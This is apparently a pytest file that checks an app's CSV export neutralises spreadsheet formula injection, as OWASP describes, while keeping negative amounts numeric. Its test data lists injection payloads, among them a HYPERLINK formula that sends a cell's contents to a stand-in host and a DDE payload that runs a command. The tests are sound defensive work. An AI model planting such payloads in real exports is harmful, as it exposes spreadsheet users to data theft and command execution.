"""Issue 20: a CSV the app writes never carries a formula a spreadsheet would
run (OWASP's CSV injection rule: a text cell or header beginning with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote),
and numbers, negative ones included, are written as numbers."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pyarrow as pa
import pytest

from ui import tables
from ui.tables import Column, Table, money_col, text_col

ATTACKS = ['=HYPERLINK("//ev.il/?"&B2,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def rows(table: Table) -> list[list[str]]:
    text = tables.csv_on_demand(table)()
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("name", ATTACKS)
def test_a_budget_items_name_as_a_header_is_neutralised(name):
    # budget.csv heads each obligation's column with its name (ui.tables.budget)
    t = Table(pd.DataFrame({"o1": [362.57, -500.0]}), {"o1": Column("o1", "money", title=name)})
    got = rows(t)
    assert got[0] == ["'" + name]
    assert got[1:] == [["362.57"], ["-500.00"]]  # a negative amount is a number, untouched


@pytest.mark.parametrize("name", ATTACKS)
def test_a_text_cell_is_neutralised(name):
    t = Table(pa.table({"name": [name, "花呗分期12期"], "amount": [-1.5, 2.0]}),
              {"name": text_col("col.plan"), "amount": money_col("col.payment")})
    got = rows(t)[1:]
    assert got == [["'" + name, "-1.50"], ["花呗分期12期", "2.00"]]


def test_a_harmless_text_is_left_as_it_is():
    assert tables.neutral("Plan 1 = cheapest") == "Plan 1 = cheapest"
    assert tables.neutral("") == ""
